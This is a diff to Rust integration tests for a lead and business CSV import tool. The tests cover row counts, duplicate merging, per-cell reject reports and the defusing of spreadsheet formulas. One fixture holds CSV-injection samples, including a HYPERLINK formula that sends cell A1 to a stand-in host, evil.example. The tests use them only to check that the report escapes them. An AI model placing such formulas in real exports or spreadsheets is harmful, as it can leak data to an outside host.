@@ -100,49 +100,45 @@ address,city,state,zip_code,first_name,primary_phone,bedrooms,favourite_colour
 ";
 
 #[test]
-fn lead_import_reports_rejects_and_reruns_create_no_duplicates() {
+fn lead_import_keeps_rows_drops_bad_cells_and_reruns_create_no_duplicates() {
     let dir = folder_with("leads", "leads.csv", LEADS);
-    let (stdout, stderr) = ok(&leadhub(&dir, &["import", "leads", "leads.csv"]));
+    let (stdout, _) = ok(&leadhub(&dir, &["import", "leads", "leads.csv"]));
     let figures = [
         ("rows", 5),
-        ("created", 3),
+        ("created", 5),
         ("updated", 0),
         ("skipped", 0),
-        ("rejected", 2),
+        ("rejected", 0),
+        ("warnings", 2),
     ];
     let s = assert_figures(&stdout, &figures);
-    assert_eq!(
-        stderr.matches("favourite_colour").count(),
-        1,
-        "the unknown column is reported once: {stderr}"
-    );
-    // The report: the rejected rows with their line number, reason and original values.
+    assert_eq!(s["encoding"], "UTF-8");
+    assert!(stdout.contains("ignored: favourite_colour\n"), "{stdout}");
+    assert!(stdout.contains("column: zip_code -> zip_code\n"), "{stdout}");
+    assert!(stdout.contains("reason: invalid_number 1\n"), "{stdout}");
+    // The report: each dropped cell with its row, column, value and reason.
     let report = PathBuf::from(&s["report"]);
     assert!(report.starts_with(dir.join("data/reports")), "{report:?}");
     let text = std::fs::read_to_string(&report).unwrap();
     let mut lines = text.lines();
     assert_eq!(
         lines.next().unwrap(),
-        "row,reason,address,city,state,zip_code,first_name,primary_phone,bedrooms,favourite_colour"
+        "row,column,value,code,message,address,city,state,zip_code,first_name,primary_phone,bedrooms,favourite_colour"
     );
     let bad_state = lines.next().unwrap();
-    assert!(bad_state.starts_with("3,"), "{text}");
-    assert!(
-        bad_state.contains("state") && bad_state.contains("2 Oak Ave"),
-        "{text}"
-    );
+    assert!(bad_state.starts_with("3,state,XX,invalid_state,"), "{text}");
     let bad_bedrooms = lines.next().unwrap();
     assert!(
-        bad_bedrooms.starts_with("5,") && bad_bedrooms.contains("bedrooms"),
+        bad_bedrooms.starts_with("5,bedrooms,many,invalid_number,"),
         "{text}"
     );
     assert_eq!(lines.next(), None);
-    assert_eq!(count(&dir, "leads"), 3);
+    assert_eq!(count(&dir, "leads"), 5);
 
     // The same file again: duplicate detection merges every row into its lead.
     let (stdout, _) = ok(&leadhub(&dir, &["import", "leads", "leads.csv"]));
-    assert_figures(&stdout, &[("created", 0), ("skipped", 3), ("rejected", 2)]);
-    assert_eq!(count(&dir, "leads"), 3, "no duplicate leads");
+    assert_figures(&stdout, &[("created", 0), ("skipped", 5), ("rejected", 0)]);
+    assert_eq!(count(&dir, "leads"), 5, "no duplicate leads");
 
     // A team the importer may not use stops the import with a one-line error.
     let out = leadhub(&dir, &["import", "leads", "leads.csv", "--team-id", "42"]);
@@ -152,20 +148,22 @@ fn lead_import_reports_rejects_and_reruns_create_no_duplicates() {
     let _ = std::fs::remove_dir_all(&dir);
 }
 
-/// Rejected rows whose cells a spreadsheet would run as formulas, in a file with such a header.
+/// Rows whose cells a spreadsheet would run as formulas, in a file with such a header; both are
+/// rejected as shifted (a cell beyond the header), so the report holds their cells.
 const FORMULAS: &str = "\
 address,city,state,zip_code,first_name,longitude,notes,=HYPERLINK(\"http://evil.example/\")
-\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\",Austin,XX,78701,+Ann,-97.74,@SUM(1),x
-\"-2+3\",Austin,XX,78701,\tTab,-97.7,\"\rCR\",-5
+\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\",Austin,XX,78701,+Ann,-97.74,@SUM(1),x,+15125550100
+\"-2+3\",Austin,XX,78701,\tTab,-97.7,\"\rCR\",-5,=1+1
 ";
 
 #[test]
-fn the_reject_report_defuses_formulas() {
+fn the_report_defuses_formulas_but_not_numbers_or_phones() {
     let dir = folder_with("formulas", "leads.csv", FORMULAS);
     let (stdout, _) = ok(&leadhub(&dir, &["import", "leads", "leads.csv"]));
     let s = assert_figures(&stdout, &[("rejected", 2)]);
     let mut report = csv::ReaderBuilder::new()
         .has_headers(false)
+        .flexible(true)
         .from_path(&s["report"])
         .unwrap();
     let rows: Vec<Vec<String>> = report
@@ -173,7 +171,7 @@ fn the_reject_report_defuses_formulas() {
         .map(|r| r.unwrap().iter().map(str::to_owned).collect())
         .collect();
     assert_eq!(
-        rows[0][2..],
+        rows[0][5..],
         [
             "address",
             "city",
@@ -185,10 +183,9 @@ fn the_reject_report_defuses_formulas() {
             "'=HYPERLINK(\"http://evil.example/\")"
         ]
     );
-    assert_eq!(rows[1][0], "2");
-    assert!(rows[1][1].starts_with("state"), "{:?}", rows[1]);
+    assert_eq!(rows[1][..4], ["2", "", "", "shifted_row"]);
     assert_eq!(
-        rows[1][2..],
+        rows[1][5..],
         [
             "'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
             "Austin",
@@ -197,15 +194,31 @@ fn the_reject_report_defuses_formulas() {
             "'+Ann",
             "-97.74",
             "'@SUM(1)",
-            "x"
+            "x",
+            "+15125550100"
         ]
     );
-    // A plain negative number is no formula: it stays as it is.
+    // A plain number or phone number is no formula: it stays as it is.
     assert_eq!(
-        rows[2][2..],
-        ["'-2+3", "Austin", "XX", "78701", "'\tTab", "-97.7", "'\rCR", "-5"]
+        rows[2][5..],
+        ["'-2+3", "Austin", "XX", "78701", "'\tTab", "-97.7", "'\rCR", "-5", "'=1+1"]
     );
     assert_eq!(rows.len(), 3);
+
+    // The report, fixed (the extra cells removed), imports again: its own columns are ignored
+    // and the guard's apostrophes stripped.
+    let fixed: String = std::fs::read_to_string(&s["report"])
+        .unwrap()
+        .lines()
+        .map(|l| match l.rsplit_once(',') {
+            Some((head, _)) if !l.starts_with("row,") => format!("{head}\n"),
+            _ => format!("{l}\n"),
+        })
+        .collect();
+    std::fs::write(dir.join("fixed.csv"), fixed).unwrap();
+    let (stdout, _) = ok(&leadhub(&dir, &["import", "leads", "fixed.csv"]));
+    assert_figures(&stdout, &[("rows", 2), ("created", 2), ("rejected", 0)]);
+    assert!(stdout.contains("ignored: row\n"), "{stdout}");
     let _ = std::fs::remove_dir_all(&dir);
 }
 
@@ -214,7 +227,7 @@ fn lead_import_in_small_chunks_matches_one_chunk() {
     let dir = folder_with("chunks", "leads.csv", LEADS);
     let chunked = ["import", "leads", "leads.csv", "--chunk-size", "2"];
     let (stdout, _) = ok(&leadhub(&dir, &chunked));
-    assert_figures(&stdout, &[("created", 3), ("rejected", 2)]);
+    assert_figures(&stdout, &[("created", 5), ("rejected", 0), ("warnings", 2)]);
     let _ = std::fs::remove_dir_all(&dir);
 }
 
@@ -241,29 +254,28 @@ fn business_import_with_options() {
             "lead_buyer",
         ],
     ));
-    let figures = [("rows", 6), ("created", 2), ("skipped", 1), ("rejected", 3)];
+    let figures = [
+        ("rows", 6),
+        ("created", 4),
+        ("skipped", 1),
+        ("rejected", 1),
+        ("warnings", 2),
+    ];
     let s = assert_figures(&stdout, &figures);
-    assert_eq!(stderr.matches("notes").count(), 1, "{stderr}");
+    assert!(stdout.contains("ignored: notes\n"), "{stdout}");
+    assert!(stderr.is_empty() || !stderr.contains("error"), "{stderr}");
     let text = std::fs::read_to_string(&s["report"]).unwrap();
     let rows: Vec<&str> = text.lines().skip(1).collect();
     assert_eq!(rows.len(), 3, "{text}");
-    assert!(
-        rows[0].starts_with("4,") && rows[0].contains("name"),
-        "{text}"
-    );
-    assert!(
-        rows[1].starts_with("5,") && rows[1].contains("rating"),
-        "{text}"
-    );
-    assert!(
-        rows[2].starts_with("6,") && rows[2].contains("state"),
-        "{text}"
-    );
+    assert!(rows[0].starts_with("4,,,no_usable_field,"), "{text}");
+    assert!(rows[1].starts_with("5,rating,7,invalid_number,"), "{text}");
+    assert!(rows[2].starts_with("6,state,ZZ,invalid_state,"), "{text}");
 
-    // Again: everything valid is a duplicate now.
+    // Again: duplicates now, but for Sunny Solar, whose state was dropped: a business without a
+    // state matches none by name and place (the duplicate rule needs both).
     let (stdout, _) = ok(&leadhub(&dir, &["import", "businesses", "biz.csv"]));
-    assert_figures(&stdout, &[("created", 0), ("skipped", 3)]);
-    assert_eq!(count(&dir, "businesses"), 2);
+    assert_figures(&stdout, &[("created", 1), ("skipped", 4)]);
+    assert_eq!(count(&dir, "businesses"), 5);
 
     // --no-skip-duplicates imports them anyway.
     let (stdout, _) = ok(&leadhub(
@@ -276,8 +288,8 @@ fn business_import_with_options() {
             "--no-auto-categorize",
         ],
     ));
-    assert_figures(&stdout, &[("created", 3)]);
-    assert_eq!(count(&dir, "businesses"), 5);
+    assert_figures(&stdout, &[("created", 5)]);
+    assert_eq!(count(&dir, "businesses"), 10);
 
     let bad = leadhub(
         &dir,
@@ -315,7 +327,7 @@ fn import_needs_someone_to_act_as() {
             "plain@example.com",
         ],
     ));
-    assert_figures(&stdout, &[("created", 2)]);
+    assert_figures(&stdout, &[("created", 4)]);
     let missing = leadhub(
         &dir,
         &[
